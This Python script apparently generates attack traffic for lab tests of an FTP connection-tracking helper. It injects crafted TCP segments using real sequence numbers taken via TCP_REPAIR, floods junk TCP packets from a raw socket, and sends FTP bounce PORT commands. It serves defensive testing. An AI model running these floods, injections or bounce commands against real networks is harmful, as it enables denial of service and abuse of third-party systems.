"""Attack traffic for the flood lab tests, run inside a lab namespace (`ip netns exec NS
python flood_probe.py ...`); stdlib only, one JSON document on stdout.

- `seq3`: the 3-packet sequence of issue 10 on real control connections: a RST (the kernel's
  own, from an abortive close, so its seq is right), a partial "PORT 1" data segment and a SYN
  on the same 4-tuple (both crafted on a raw socket with the connection's real numbers, read
  with TCP_REPAIR), so conntrack passes them as far as it would an attacker's.
- `flood`: junk TCP on a raw socket from prebuilt packets, for a bounded time; prints pps.
- `bounce`: one real control connection sending bounce PORTs as fast as it can.
"""

from __future__ import annotations

import argparse
import json
import random
import socket
import struct
import threading
import time

TCP_REPAIR, TCP_REPAIR_QUEUE, TCP_QUEUE_SEQ = 19, 20, 21
TCP_RECV_QUEUE, TCP_SEND_QUEUE, TCP_REPAIR_OFF_NO_WP = 1, 2, -1
FIN, SYN, RST, PSH, ACK = 0x01, 0x02, 0x04, 0x08, 0x10


def _sum16(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return total


def segment(
    src: str, dst: str, sport: int, dport: int, seq: int, ack: int, flags: int, data: bytes = b""
) -> bytes:
    """A TCP segment (header + payload) with its checksum; the kernel adds the IP header."""
    head = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 5 << 4, flags, 65535, 0, 0)
    pseudo = (
        socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, 20 + len(data))
    )
    check = 0xFFFF - _sum16(pseudo + head + data)
    return head[:16] + struct.pack("!H", check) + head[18:] + data


def _numbers(sock: socket.socket) -> tuple[int, int]:
    """The connection's next send and receive sequence numbers (TCP_REPAIR, needs root)."""
    sock.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR, 1)
    try:
        sock.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR_QUEUE, TCP_SEND_QUEUE)
        snd = sock.getsockopt(socket.IPPROTO_TCP, TCP_QUEUE_SEQ)
        sock.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR_QUEUE, TCP_RECV_QUEUE)
        rcv = sock.getsockopt(socket.IPPROTO_TCP, TCP_QUEUE_SEQ)
    finally:  # leave repair mode without a window probe
        sock.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR, TCP_REPAIR_OFF_NO_WP)
    return snd & 0xFFFFFFFF, rcv & 0xFFFFFFFF


def _banner(sock: socket.socket) -> bytes:
    got = b""
    while b"\r\n" not in got:
        chunk = sock.recv(4096)
        if not chunk:
            raise ConnectionError("closed before the banner")
        got += chunk
    return got


def seq3(host: str, port: int, count: int, loaded: bool) -> dict[str, object]:
    """`loaded`: the RST and the SYN carry a byte of payload too, so that the rules queue
    them as well (a payload segment of an ESTABLISHED entry) and the core sees all three;
    the socket is then closed silently in repair mode and the RST is crafted."""
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
    banners = 0
    extra = b"x" if loaded else b""
    for _ in range(count):
        ctl = socket.create_connection((host, port), timeout=5)
        banners += _banner(ctl).startswith(b"220")
        # Not a login line: the kernel queues it, so the daemon watches the connection
        # (alg/kernel/rules_skip.py) and holds a session for it when the attack comes.
        ctl.sendall(b"PWD\r\n")
        _banner(ctl)  # its reply (530 before a login, or 257)
        src, sport = ctl.getsockname()[:2]
        snd, rcv = _numbers(ctl)
        if loaded:
            ctl.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR, 1)
            ctl.close()  # in repair mode: nothing is sent
            rst = segment(src, host, sport, port, snd, rcv, RST | ACK, extra)
            raw.sendto(rst, (host, 0))  # 1: the RST
        else:
            ctl.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            ctl.close()  # 1: the RST, the kernel's own
        part = segment(src, host, sport, port, snd, rcv, PSH | ACK, b"PORT 1")
        raw.sendto(part, (host, 0))  # 2: a partial PORT line
        syn = segment(src, host, sport, port, random.getrandbits(32), 0, SYN, extra)
        raw.sendto(syn, (host, 0))  # 3: a SYN on the same 4-tuple
    raw.close()
    return {"sequences": count, "banners": banners}


def _junk(
    src: str, dst: str, kind: str, port: int, variety: int, exclude: frozenset[int]
) -> list[bytes]:
    """`variety` prebuilt packets: `ack` (sport `port`, random dports, ACK + payload), `syn`
    (sport `port`, random dports), `mix` (the two alternating) or `junk` (random sports to
    dport `port`, ACK + payload). The random ports are distinct up to 64512 packets less
    `exclude` (ports of connections the router already tracks), so each packet of one round
    is the first of its 4-tuple."""
    rng = random.Random(10)
    pool = [p for p in range(1024, 65536) if p not in exclude]
    others = rng.sample(pool, min(variety, len(pool)))
    out = []
    for i in range(variety):
        seq, ack, other = rng.getrandbits(32), rng.getrandbits(32), others[i % len(others)]
        if kind == "syn" or (kind == "mix" and i % 2):
            out.append(segment(src, dst, port, other, seq, 0, SYN))
        elif kind in ("ack", "mix"):
            out.append(segment(src, dst, port, other, seq, ack, PSH | ACK, b"227 junk (1,2,3)\r\n"))
        else:
            out.append(
                segment(src, dst, other, port, seq, ack, PSH | ACK, b"PORT 10,0,0,9,4,1\r\n")
            )
    return out


def flood(
    dst: str,
    kind: str,
    port: int,
    seconds: float,
    limit: int,
    variety: int,
    exclude: frozenset[int] = frozenset(),
) -> dict[str, object]:
    probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    probe.connect((dst, 9))
    src = probe.getsockname()[0]
    probe.close()
    packets = _junk(src, dst, kind, port, variety, exclude)
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
    raw.connect((dst, 0))
    send, sent, errors = raw.send, 0, 0
    start = time.monotonic()
    end = start + seconds
    while sent < limit:
        batch = packets[: limit - sent]
        for pkt in batch:
            try:
                send(pkt)
            except OSError:  # ENOBUFS under load: count it, go on
                errors += 1
        sent += len(batch)
        if time.monotonic() >= end:
            break
    took = time.monotonic() - start
    return {
        "sent": sent - errors,
        "errors": errors,
        "seconds": round(took, 2),
        "pps": round((sent - errors) / took),
    }


def bounce(host: str, port: int, count: int) -> dict[str, object]:
    """`count` PORT lines naming a third host, on one logged-in control connection; the
    replies are read by a second thread so neither side's buffer stalls the other."""
    ctl = socket.create_connection((host, port), timeout=30)
    buf = _banner(ctl)
    for cmd in (b"USER anonymous\r\n", b"PASS probe@\r\n"):
        ctl.sendall(cmd)
        buf = b""
        while not buf.endswith(b"\r\n"):
            buf += ctl.recv(4096)
    replies: dict[str, int] = {}

    def read() -> None:
        rest = b""
        seen = 0
        while seen < count:
            chunk = ctl.recv(1 << 16)
            if not chunk:
                break
            lines = (rest + chunk).split(b"\r\n")
            rest = lines.pop()
            for line in lines:
                code = line[:3].decode()
                replies[code] = replies.get(code, 0) + 1
                seen += 1

    reader = threading.Thread(target=read)
    reader.start()
    start = time.monotonic()
    line = b"PORT 10,0,0,9,4,1\r\n"
    batch = line * 100
    for _ in range(count // 100):
        ctl.sendall(batch)
    ctl.sendall(line * (count % 100))
    reader.join(120)
    took = time.monotonic() - start
    ctl.sendall(b"QUIT\r\n")
    ctl.close()
    return {"sent": count, "replies": replies, "seconds": round(took, 2)}


def main() -> None:
    ap = argparse.ArgumentParser()
    sub = ap.add_subparsers(dest="cmd", required=True)
    p = sub.add_parser("seq3")
    p.add_argument("host")
    p.add_argument("--port", type=int, default=21)
    p.add_argument("--count", type=int, default=100)
    p.add_argument("--loaded", action="store_true")
    p = sub.add_parser("flood")
    p.add_argument("host")
    p.add_argument("kind", choices=["ack", "syn", "mix", "junk"])
    p.add_argument("--port", type=int, default=21)
    p.add_argument("--seconds", type=float, default=20)
    p.add_argument("--limit", type=int, default=10**9)
    p.add_argument("--variety", type=int, default=4096)
    p.add_argument("--exclude", default="", help="comma-separated ports the random ones avoid")
    p = sub.add_parser("bounce")
    p.add_argument("host")
    p.add_argument("--port", type=int, default=21)
    p.add_argument("--count", type=int, default=100_000)
    a = ap.parse_args()
    if a.cmd == "seq3":
        out = seq3(a.host, a.port, a.count, a.loaded)
    elif a.cmd == "flood":
        exclude = frozenset(int(p) for p in a.exclude.split(",") if p)
        out = flood(a.host, a.kind, a.port, a.seconds, a.limit, a.variety, exclude)
    else:
        out = bounce(a.host, a.port, a.count)
    print(json.dumps(out))


if __name__ == "__main__":
    main()
